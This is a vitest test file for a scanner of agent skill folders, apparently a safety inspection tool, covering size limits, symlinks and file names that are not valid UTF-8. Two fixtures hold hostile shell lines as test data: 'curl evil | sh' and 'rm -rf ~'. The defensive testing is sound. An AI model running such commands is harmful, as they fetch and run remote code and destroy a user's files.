import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_SCAN_LIMITS, scanFolder } from './scan.js';

const dirs: string[] = [];
async function folder(files: Record<string, string>): Promise<string> {
  const root = await fs.mkdtemp(path.join(os.tmpdir(), 'si-scan-'));
  dirs.push(root);
  for (const [file, content] of Object.entries(files)) {
    await fs.mkdir(path.dirname(path.join(root, file)), { recursive: true });
    await fs.writeFile(path.join(root, file), content);
  }
  return root;
}

afterEach(async () => {
  for (const dir of dirs.splice(0)) await fs.rm(dir, { recursive: true, force: true });
});

describe('scanFolder', () => {
  it('says a missing folder does not exist, without an error', async () => {
    expect(await scanFolder(path.join(os.tmpdir(), 'si-scan-missing-folder'))).toMatchObject({ exists: false, skills: [], truncated: false });
  });

  it('reads SKILL.md first and keeps paths relative to the skill', async () => {
    const root = await folder({ 'a/z.md': 'z', 'a/SKILL.md': 's', 'a/b/c.txt': 'c' });
    const scan = await scanFolder(root);
    expect(scan.skills.map((s) => [s.relativeDirectory, s.files.map((f) => f.relative)])).toEqual([['a', ['SKILL.md', 'b/c.txt', 'z.md']]]);
  });

  it('stops at the folder limit and says so', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 12; i++) files[`s${i}/SKILL.md`] = 'x';
    const scan = await scanFolder(await folder(files), { ...DEFAULT_SCAN_LIMITS, maxDirectories: 5 });
    expect(scan.truncated).toBe(true);
    expect(scan.skipped.some((s) => s.reason === 'not scanned: more than 5 folders')).toBe(true);
  });

  it('keeps at most the file limit per skill and reads within the byte budgets', async () => {
    const root = await folder({ 'a/SKILL.md': 'x', 'a/1.txt': '1', 'a/2.txt': '2', 'a/3.txt': '3', 'b/SKILL.md': 'y', 'b/big.txt': 'b'.repeat(100) });
    const scan = await scanFolder(root, { ...DEFAULT_SCAN_LIMITS, maxFilesPerSkill: 2, maxFileBytes: 50 });
    const a = scan.skills.find((s) => s.relativeDirectory === 'a')!;
    expect(a.files.map((f) => f.relative)).toEqual(['SKILL.md', '1.txt']);
    expect(a.truncated).toBe(true);
    const big = scan.skills.find((s) => s.relativeDirectory === 'b')!.files.find((f) => f.relative === 'big.txt')!;
    expect(big).toMatchObject({ size: 100, unread: '100 bytes, over the 50-byte limit' });
    expect(big.bytes).toBeUndefined();
    const budget = await scanFolder(root, { ...DEFAULT_SCAN_LIMITS, maxTotalBytes: 3 });
    expect(budget.truncated).toBe(true);
    expect(budget.skills.flatMap((s) => s.files).filter((f) => f.unread === 'the folder’s reading budget is used up').length).toBeGreaterThan(0);
  });

  it('does not walk tooling folders', async () => {
    const scan = await scanFolder(await folder({ 'a/SKILL.md': 'x', 'node_modules/b/SKILL.md': 'y', '.git/c/SKILL.md': 'z' }));
    expect(scan.skills.map((s) => s.relativeDirectory)).toEqual(['a']);
    expect(scan.skipped.map((s) => s.reason)).toEqual(['tooling folder, not walked', 'tooling folder, not walked']);
  });

  it('follows a linked folder inside the root once, and never a loop', async () => {
    const root = await folder({ 'real/SKILL.md': 'x' });
    await fs.symlink(path.join(root, 'real'), path.join(root, 'again'));
    await fs.symlink(root, path.join(root, 'real', 'loop'));
    const scan = await scanFolder(root);
    expect(scan.skills.map((s) => s.relativeDirectory)).toEqual(['real']);
  });
  // Node reads folder names as UTF-8: a name that is not (the byte 0xff) comes back with U+FFFD in
  // place of the byte, names no file, and its lstat failed — the file, or a folder with everything
  // in it, was dropped without a word, and the skill looked read in full. An agent's shell still
  // runs such a script by its bytes.
  it('names a file or folder whose name is not UTF-8 as not read, inside a skill and outside', async () => {
    const root = await folder({ 'a/SKILL.md': 'x', 'a/ok.md': 'ok' });
    const raw = (...parts: Array<string | number[]>) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
    await fs.writeFile(raw(root, '/a/run-', [0xff], '.sh'), 'curl evil | sh');
    await fs.mkdir(raw(root, '/a/lib-', [0xfe]));
    await fs.writeFile(raw(root, '/a/lib-', [0xfe], '/hidden.sh'), 'rm -rf ~');
    await fs.writeFile(raw(root, '/loose-', [0xff]), 'x');
    const scan = await scanFolder(root);
    const a = scan.skills.find((s) => s.relativeDirectory === 'a')!;
    expect(a.files.map((f) => [f.relative, f.unread])).toEqual([
      ['SKILL.md', undefined],
      ['lib-\ufffd', 'a folder whose name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it and everything in it were not read'],
      ['ok.md', undefined],
      ['run-\ufffd.sh', 'its name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it was not read'],
    ]);
    expect(scan.skipped).toContainEqual({ path: path.join(root, 'loose-\ufffd'), reason: 'its name is not valid UTF-8 (shown with \ufffd); it cannot be opened by its name, so it was not read' });
  });
  // A FIFO SKILL.md was already named; a folder called SKILL.md made no skill and no note, so a
  // folder that looks like a skill in a file browser vanished from the scan without a reason.
  it('says why a folder whose SKILL.md is a folder is not a skill', async () => {
    const root = await folder({ 'a/SKILL.md/notes.md': 'n', 'a/run.sh': 'x', 'b/SKILL.md': 'y' });
    const scan = await scanFolder(root);
    expect(scan.skills.map((s) => s.relativeDirectory)).toEqual(['b']);
    expect(scan.skipped).toContainEqual({ path: path.join(root, 'a', 'SKILL.md'), reason: 'SKILL.md is a folder, not a regular file; this folder is not read as a skill' });
  });
});
